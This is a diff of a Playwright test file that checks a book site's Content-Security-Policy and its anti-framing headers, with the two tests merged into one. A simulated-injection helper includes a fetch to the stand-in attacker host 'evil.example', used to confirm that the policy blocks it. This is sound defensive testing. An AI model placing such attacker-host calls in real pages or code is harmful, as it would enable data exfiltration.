@@ -1,4 +1,4 @@
-import type { Browser, Page } from '@playwright/test';
+import type { Page } from '@playwright/test';
 import { cards } from './support/library';
 import { expect, test } from './support/test';
 
@@ -8,14 +8,6 @@ declare global {
     refused: Set<string>;
     injected?: boolean;
   }
-}
-
-/** A page that no fixture watches, which would fail these stories: they are about violations. */
-async function openUnwatched(browser: Browser): Promise<Page> {
-  const page = await browser.newPage();
-  // No page waits for covers from the network.
-  await page.route('https://www.gutenberg.org/**', (route) => route.abort());
-  return page;
 }
 
 /** Does to a page what an injection would. */
@@ -39,55 +31,40 @@ const attack = (page: Page) =>
     await fetch('https://evil.example/').catch(() => undefined);
   });
 
-// GitHub Pages sends no headers: here the page's own policy is alone.
-test('what an injection would load or run is refused', async ({ browser, hosts }) => {
-  const page = await openUnwatched(browser);
-  await page.goto(`${hosts['GitHub Pages, base path']}/`);
-  await expect(cards(page)).toHaveCount(32);
-  await attack(page);
-  await expect
-    .poll(() => page.evaluate(() => [...window.refused].sort()))
-    .toEqual([
-      'base-uri',
-      'connect-src',
-      'frame-src',
-      'img-src',
-      'object-src',
-      'script-src-attr',
-      'script-src-elem',
-      'style-src-attr',
-      'style-src-elem',
-    ]);
-  expect(await page.evaluate(() => window.injected)).toBeUndefined();
-  await page.close();
-});
-
-test('on Netlify every answer has the headers, and no other site can frame the pages', async ({
+// A page that no fixture watches, which would fail this story: violations are its point.
+test('what an injection would load or run is refused, and on Netlify no other site frames the pages', async ({
   browser,
   hosts,
 }) => {
-  const page = await openUnwatched(browser);
-  for (const address of ['/', '/book/84/', '/estante', '/icon.svg']) {
-    const headers = (await page.request.get(`${hosts.Netlify}${address}`)).headers();
-    expect(headers).toMatchObject({
-      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
-      'x-content-type-options': 'nosniff',
-      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
-    });
-    // Netlify refuses long headers; the pages carry what would make this one grow with them.
-    expect(headers['content-security-policy']?.length).toBeLessThan(500);
-  }
-  // A page of another origin, and what it has framed.
-  const other = `${hosts['GitHub Pages, root']}/other.html`;
-  const framed = async (address: string) => {
-    await page.route(other, (route) =>
-      route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}"></iframe>` }),
+  const page = await browser.newPage();
+  // No page waits for covers from the network.
+  await page.route('https://www.gutenberg.org/**', (route) => route.abort());
+
+  await test.step('injections, where the page’s own policy is alone', async () => {
+    await page.goto(`${hosts['GitHub Pages, base path']}/`);
+    await expect(cards(page)).toHaveCount(32);
+    await attack(page);
+    await expect
+      .poll(() => page.evaluate(() => [...window.refused].sort().join(' ')))
+      .toBe(
+        'base-uri connect-src frame-src img-src object-src script-src-attr script-src-elem style-src-attr style-src-elem',
+      );
+    expect(await page.evaluate(() => window.injected)).toBeUndefined();
+  });
+
+  await test.step('frames, which only a header can refuse', async () => {
+    // A document of another origin without a policy of its own.
+    await page.goto(`${hosts['GitHub Pages, root']}/robots.txt`);
+    await page.evaluate(
+      (addresses) => {
+        for (const src of addresses) {
+          document.body.append(Object.assign(document.createElement('iframe'), { src }));
+        }
+      },
+      [`${hosts['GitHub Pages, base path']}/`, `${hosts.Netlify}/`],
     );
-    await page.goto(other);
-    return page.frameLocator('iframe').getByRole('banner');
-  };
-  await expect(await framed(hosts['GitHub Pages, root'])).toBeVisible();
-  await expect(await framed(hosts.Netlify)).toHaveCount(0);
-  expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+    await expect(page.frameLocator('iframe >> nth=0').getByRole('banner')).toBeVisible();
+    await expect.poll(() => page.frames()[2]?.url()).toBe('chrome-error://chromewebdata/');
+  });
   await page.close();
 });
